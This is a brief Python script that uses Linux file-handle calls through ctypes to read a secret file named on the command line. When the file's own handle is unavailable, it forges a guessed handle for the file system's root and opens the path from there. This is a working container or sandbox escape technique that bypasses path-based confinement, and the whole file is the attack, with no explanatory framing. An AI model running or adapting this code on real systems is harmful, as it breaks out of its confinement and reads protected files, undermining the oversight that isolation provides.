import ctypes, os, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
secret = sys.argv[1]


def handle_of(path):
    room = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    done = libc.name_to_handle_at(AT_FDCWD, path.encode(), room, ctypes.byref(mount), 0)
    return None if done else room


def opened(handle, flags):
    for anchor in ("/", ".", os.path.dirname(secret)):
        try:
            folder = os.open(anchor, os.O_RDONLY)
        except OSError:
            continue
        file = libc.open_by_handle_at(folder, handle, flags)
        if file >= 0:
            return file
    return None


# By its own handle where there is one to be had; else by that of the file system's root, which can be guessed.
own = handle_of(secret)
if own:
    file = opened(own, os.O_RDONLY)
    if file is not None:
        print(os.read(file, 100))
root = opened(ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0), 136), os.O_RDONLY | os.O_DIRECTORY)
if root is not None:
    try:
        print(os.read(os.open(secret[1:], os.O_RDONLY, dir_fd=root), 100))
    except OSError:
        pass
